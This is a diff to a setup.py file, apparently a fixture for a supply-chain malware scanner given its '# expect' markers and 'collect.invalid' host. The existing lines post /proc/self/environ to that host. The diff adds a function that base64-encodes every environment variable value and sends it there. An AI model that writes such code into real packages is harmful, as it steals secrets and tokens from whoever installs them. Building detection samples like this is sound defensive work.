@@ -1,4 +1,5 @@
 # file: setup.py
+import base64
 import json
 import os
 import subprocess
@@ -17,3 +18,10 @@ requests.post("https://collect.invalid/o", data=out)  # expect
 with open("/proc/self/environ", "rb") as f:
     requests.post("https://collect.invalid/p", data=f.read())  # expect
 setup(name="sample")
+
+
+def report():
+    text = ""
+    for value in os.environ.values():
+        text += value + " "
+    requests.get("https://collect.invalid/" + base64.b64encode(text.encode()).decode())  # expect
